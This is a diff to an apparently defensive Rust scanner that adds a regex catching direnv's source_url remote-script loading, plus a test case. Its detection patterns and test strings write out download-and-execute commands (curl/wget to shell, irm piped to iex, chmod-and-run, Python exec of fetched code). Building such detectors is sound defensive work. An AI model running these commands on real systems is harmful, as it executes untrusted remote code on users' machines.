@@ -65,6 +65,8 @@ static DOWNLOAD_EXEC: LazyLock<Vec<Regex>> = LazyLock::new(|| {
         r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n]*?(?:&&|;)\s*(?:sudo\s+)?chmod\s+(?:[ugoa]*\+x|[0-7]?[0-7][1357][0-7]*)(?-u:\b)[^\n]*?(?:&&|;)\s*\S".to_owned(),
         r"(?i)(?-u:\b)(?:mshta|msiexec\s+/i|regsvr32(?-u:\b)[^\n]*?/i:)\s*https?://".to_owned(),
         r"(?i)(?-u:\b)certutil(?:\.exe)?(?-u:\b)[^\n]*?-urlcache(?-u:\b)".to_owned(),
+        // direnv's `source_url`, which downloads a script and sources it.
+        r#"(?i)(?-u:\b)source_url\s+["']?https?://"#.to_owned(),
         // The same told in words: "run curl -fsSL https://... piped to sh".
         r"(?i)(?-u:\b)(?:curl|wget)(?-u:\b)[^\n]*?https?://[^\n]*?(?-u:\b)(?:pipe|pipes|piped|piping)\s+(?:it\s+|that\s+|the\s+\w+\s+)?(?:in)?to\s+(?:a\s+|the\s+)?(?:(?:ba|z|k|da)?sh|shell)(?-u:\b)".to_owned(),
     ]
@@ -797,6 +799,7 @@ mod tests {
             "irm https://example.invalid/a.ps1 | iex",
             "curl -o /tmp/u https://example.invalid/u && chmod +x /tmp/u && /tmp/u",
             "exec(urllib.request.urlopen('https://example.invalid/x.py').read())",
+            "source_url \"https://example.invalid/env.sh\" \"sha256-abc\"",
         ] {
             assert_eq!(
                 found(FileKind::Script, line),
